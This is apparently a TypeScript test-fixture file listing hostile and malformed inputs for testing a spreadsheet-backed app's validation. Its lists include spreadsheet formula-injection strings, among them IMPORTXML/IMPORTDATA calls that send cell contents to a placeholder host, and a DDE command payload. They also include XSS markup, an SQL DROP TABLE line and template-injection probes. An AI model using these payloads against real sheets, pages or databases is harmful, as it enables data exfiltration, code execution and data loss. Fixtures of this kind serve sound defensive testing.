/**
 * What the public and careless hands send: text a spreadsheet would execute or coerce, markup, control characters,
 * scripts of every direction, and values of the wrong type. Used by hostile.test.ts and property.test.ts.
 */

/** Strings a sheet would turn into a formula, a number, a date or a boolean if written to a general-format cell. */
export const INJECTION = [
  '=1+1',
  '=',
  '+',
  '-',
  '@',
  '-1+2',
  '+62812 3456 7890',
  '+6281234567890',
  '0812345678',
  '@user',
  '@user: =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  '=IMPORTXML("https://x.example/?q="&A1,"//a")',
  '=IMAGE("https://x.example/p.png")',
  '=HYPERLINK("https://x.example","klik di sini")',
  '=IMPORTDATA("https://x/?"&A2)',
  "=cmd|' /C calc'!A0",
  '=SUM(1;2)',
  '1e3',
  '.5',
  'TRUE',
  'false',
  '2026-11-27',
  '2026-11-27 08:00',
  '27/11/2026',
  '12:30',
  '50%',
  'Rp 10.000',
  '1,234',
  'Nov 28',
] as const;

/** Markup that a page using innerHTML would run. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</textarea><b>tebal</b>',
  '"><svg onload=alert(1)>',
  "'; DROP TABLE narasumber; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is the attack being tried
  '{{7*7}} ${7*7} <?= 7*7 ?>',
] as const;

/** Control characters, emoji, other scripts and spacing. */
export const UNICODE = [
  'a\u0000b',
  'bel\u0007',
  'baris\u2028baru\u2029paragraf',
  'baris 1\nbaris 2\r\nbaris 3',
  'tab\tdi\ttengah',
  '\u200Btanpa lebar\uFEFF',
  'Terima kasih 🙏🏽 keluarga 👨‍👩‍👧‍👦 bendera 🇮🇩',
  'مرحبا بكم في البث المباشر',
  'שלום \u202Eevil\u202C',
  'Koperasi 合作社 кооператив κοινότητα',
  '  spasi di depan dan belakang  ',
  '__proto__',
  '{"a":1}',
  'a\\b\\"c"',
] as const;

/** Every text that is not blank: each must be either stored exactly (as typed, or trimmed for a name) or refused with a reason. */
export const TEXTS: readonly string[] = [...INJECTION, ...MARKUP, ...UNICODE];

/** Text that is there but empty. */
export const BLANKS = ['', ' ', '\t\n', '\u00A0\u2028'] as const;

/** A text of exactly `n` UTF-16 units made of `unit` (a long text at a field's limit, or just over it). */
export function long(n: number, unit = 'x'): string {
  const s = unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
  // Never half an emoji: a lone surrogate is not text.
  return /[\uD800-\uDBFF]$/.test(s) ? `${s.slice(0, -1)}x` : s;
}
/** Long texts whose JSON (in the audit log) is longest: quotes double, control characters grow sixfold. */
export const LONG_UNITS = ['x', '"', '\u0001', 'é🙏'] as const;

/** Values of the wrong type, or of the right type in a form the API does not take. */
export const WRONG: readonly unknown[] = [
  0,
  -1,
  1.5,
  1e308,
  2 ** 53 + 2,
  '',
  'NaN',
  'Infinity',
  '1e999',
  '12',
  '2026-02-30',
  '27/11/2026',
  '2026-11-27T08:00:00Z',
  '08.15',
  '25:00',
  true,
  false,
  null,
  [],
  ['a'],
  [1, 2, 3],
  {},
  { a: { b: { c: [1, { d: null }] } } },
  long(20_000),
];

/** Whole arguments a caller of google.script.run could send instead of one object. */
export const WRONG_ARGUMENTS: readonly unknown[] = [undefined, null, 'x', 42, true, [], [{}], ['{}']];

/** The JSON type of a value, to pick replacements of another type. */
export function jsonType(v: unknown): string {
  return v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v;
}
